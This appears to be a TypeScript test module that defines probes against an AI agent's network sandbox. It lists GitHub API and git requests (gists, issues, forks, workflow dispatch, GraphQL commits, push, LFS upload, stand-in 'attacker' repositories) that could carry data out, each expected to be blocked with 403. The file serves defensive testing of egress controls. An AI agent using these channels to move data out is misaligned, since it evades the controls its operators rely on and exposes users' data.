/** G4 at a forge: what a clone does not need, from the web interface's API to a push. */

import type { Vector, WebProbe } from "../vector.ts"

export function gitVectors(): readonly Vector[] {
  const api: readonly (readonly [string, string, Omit<WebProbe, "kind" | "to" | "host">])[] = [
    ["64-gist", "a gist", { method: "POST", path: "/gists?{m}", body: "{m}" }],
    [
      "64-issue",
      "an issue in an allowed repository",
      { method: "POST", path: "/repos/acme-example/payments/issues?{m}", body: "{m}" },
    ],
    ["64-fork", "a fork", { method: "POST", path: "/repos/acme-example/payments/forks?{m}", body: "{}" }],
    ["64-repository", "a new repository", { method: "POST", path: "/user/repos?{m}", body: "{}" }],
    [
      "64-workflow-dispatch",
      "a workflow started",
      { method: "POST", path: "/repos/acme-example/payments/actions/workflows/1/dispatches?{m}", body: "{}" },
    ],
    ["64-other-repository", "a repository that is not named", { path: "/repos/attacker/drop/contents/{m}" }],
    [
      "65-graphql-commit",
      "a commit by GraphQL",
      {
        method: "POST",
        path: "/graphql?{m}",
        body: '{"query":"mutation{createCommitOnBranch(input:{}){clientMutationId}}"}',
      },
    ],
  ]
  const git: readonly (readonly [string, string, Omit<WebProbe, "kind" | "to" | "host">])[] = [
    [
      "65-git-push-refs",
      "the beginning of a push to an allowed repository",
      { path: "/acme-example/payments.git/info/refs?service=git-receive-pack" },
    ],
    [
      "65-git-push-pack",
      "a pack pushed to an allowed repository",
      { method: "POST", path: "/acme-example/payments.git/git-receive-pack?{m}", body: "0000" },
    ],
    [
      "65-git-lfs-upload",
      "large files sent to an allowed repository",
      {
        method: "POST",
        path: "/acme-example/payments.git/info/lfs/objects/batch?{m}",
        headers: { "content-type": "application/vnd.git-lfs+json" },
        body: '{"operation":"upload","objects":[{"oid":"{m}","size":1}]}',
      },
    ],
    [
      "65-git-other-repository",
      "a clone of a repository that is not named",
      { path: "/attacker/{m}.git/info/refs?service=git-upload-pack" },
    ],
  ]
  const seenIn = "schmitthub/clawker#327: gists, forks, LFS and GraphQL as ways out"
  return [
    ...api.map(([id, title, asked]) => ({
      ...web(id, title, { host: "api.github.com", ...asked }, seenIn),
      needs: "api.github.com",
    })),
    ...git.map(([id, title, asked]) => ({
      ...web(id, title, { host: "github.com", ...asked }),
      needs: "github.com",
    })),
  ].map((vector) =>
    vector.how.kind === "web"
      ? { ...vector, how: { ...vector.how, headers: { ...vector.how.headers, "x-attack": "{m}" } } }
      : vector,
  )
}

function web(id: string, title: string, asked: Omit<WebProbe, "kind" | "to">, seenIn?: string): Vector {
  const how = { kind: "web", to: "https", ...asked } as const
  const vector = { id, group: "G4" as const, title, from: ["agent"] as const, expected: "403" as const, how }
  return seenIn === undefined ? vector : { ...vector, seenIn }
}
